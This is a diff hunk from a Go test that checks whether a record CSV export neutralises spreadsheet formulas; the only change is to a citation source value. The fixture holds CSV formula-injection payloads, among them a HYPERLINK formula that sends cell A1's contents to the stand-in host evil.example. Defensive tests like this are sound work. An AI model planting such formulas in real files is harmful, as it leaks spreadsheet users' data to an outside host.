@@ -18,7 +18,7 @@ func TestAbuse13RecordCSVExportRunsNoFormula(t *testing.T) {
 	c.login("admin")
 	name := `=HYPERLINK("http://evil.example/?leak="&A1,"Details")`
 	file := "id,kind,country,name.en,citations[].source,citations[].quote\n" +
-		`formula-place,place,BY,"` + strings.ReplaceAll(name, `"`, `""`) + `",chancery-reference,"@SUM(1+1)"` + "\n"
+		`formula-place,place,BY,"` + strings.ReplaceAll(name, `"`, `""`) + `",ichongqing-2021-02-01,"@SUM(1+1)"` + "\n"
 	if res := c.upload("e.csv", file, url.Values{"kind": {"entity"}}); res.Status != 200 || !strings.Contains(res.Body, "1 created") {
 		t.Fatalf("import: %d\n%.600s", res.Status, res.Body)
 	}
